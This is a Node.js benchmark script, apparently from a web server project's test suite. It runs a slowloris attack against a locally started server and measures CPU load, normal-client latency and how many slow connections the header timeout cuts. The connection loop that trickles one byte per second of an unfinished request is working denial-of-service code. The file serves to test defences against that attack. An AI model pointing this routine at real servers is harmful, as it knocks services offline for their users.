#!/usr/bin/env node
'use strict';
/**
 * Attack: slowloris against a Site.
 *
 * N connections each send one byte of a request head a second and never
 * finish it, while one normal client does sequential GETs on its own
 * keep-alive connection. Prints the server's CPU (share of one core) and
 * the normal client's p50/p99 latency without and then with the slow
 * connections, and how many slow connections the header timeout cut.
 *
 *   node bench/attacks/http-slowloris.js [--connections 5000] [--seconds 5] [--timeout 60] [--backend epoll|poll]
 */
const fs = require('fs');
const net = require('net');
const path = require('path');
const { serve, startServer, option } = require('./harness');

function runServer() {
  const io = require(path.join(__dirname, '..', '..', 'dist'));
  const reactor = io.createReactor({ backend: option('backend', 'epoll') });
  class Hello extends io.Resource {
    constructor() {
      super();
      this.isLeaf = true;
    }
    render_GET() {
      return 'hello\n';
    }
  }
  const site = new io.Site(new Hello(), { reactor, timeout: Number(option('timeout', '60')) });
  const port = reactor.listenTCP(0, site, { interface: '127.0.0.1', backlog: 1024 });
  serve(port.getHost().port, () => ({}));
}

/** The child's utime+stime in seconds (from /proc). */
function cpuSeconds(pid) {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
  const fields = f.slice(f.lastIndexOf(')') + 2).split(' ');
  return (Number(fields[11]) + Number(fields[12])) / 100;
}

/** Sequential GETs on one connection for `seconds`: latencies in ms. */
function normalClient(port, seconds) {
  return new Promise((resolve) => {
    const sock = net.connect(port, '127.0.0.1');
    const lat = [];
    const end = Date.now() + seconds * 1000;
    let t0 = 0;
    let buf = '';
    const next = () => {
      if (Date.now() > end) {
        sock.destroy();
        return resolve(lat);
      }
      t0 = process.hrtime.bigint();
      sock.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n');
    };
    sock.on('connect', next);
    sock.on('data', (d) => {
      buf += d.toString('latin1');
      if (!buf.endsWith('hello\n')) return;
      buf = '';
      lat.push(Number(process.hrtime.bigint() - t0) / 1e6);
      setTimeout(next, 1);
    });
  });
}

function pct(xs, p) {
  const s = [...xs].sort((a, b) => a - b);
  return s.length ? s[Math.min(s.length - 1, Math.floor(s.length * p))].toFixed(2) : '-';
}

async function main() {
  const n = Number(option('connections', '5000'));
  const seconds = Number(option('seconds', '5'));
  const server = await startServer(__filename, process.argv.slice(2));
  const pid = server.pid;
  const base0 = cpuSeconds(pid);
  const baseline = await normalClient(server.port, seconds);
  const baseCpu = (cpuSeconds(pid) - base0) / seconds;

  const head = Buffer.from('GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ' + 'a'.repeat(10000));
  const slow = [];
  let cut = 0;
  await new Promise((resolve) => {
    let open = 0;
    for (let i = 0; i < n; i++) {
      const s = net.connect(server.port, '127.0.0.1', () => {
        if (++open === n) resolve();
      });
      s.on('error', () => undefined);
      s.on('close', () => cut++);
      s.sent = 0;
      slow.push(s);
    }
  });
  const tick = setInterval(() => {
    for (const s of slow) if (!s.destroyed) s.write(head.subarray(s.sent, ++s.sent));
  }, 1000);
  const c0 = cpuSeconds(pid);
  const under = await normalClient(server.port, seconds);
  const slowCpu = (cpuSeconds(pid) - c0) / seconds;
  clearInterval(tick);
  for (const s of slow) s.destroy();
  server.stop();
  console.log(`slowloris against a Site: ${n} connections, one byte a second, ${seconds} s windows`);
  console.log(`  server CPU (share of a core)   ${(100 * baseCpu).toFixed(2)}% -> ${(100 * slowCpu).toFixed(2)}%   (baseline includes the normal client)`);
  console.log(`  normal client p50 / p99 (ms)   ${pct(baseline, 0.5)} / ${pct(baseline, 0.99)} -> ${pct(under, 0.5)} / ${pct(under, 0.99)}`);
  console.log(`  normal requests                ${baseline.length} -> ${under.length}`);
  console.log(`  slow connections cut by the server during the window: ${cut}`);
}

if (process.argv.includes('--server')) runServer();
else main();
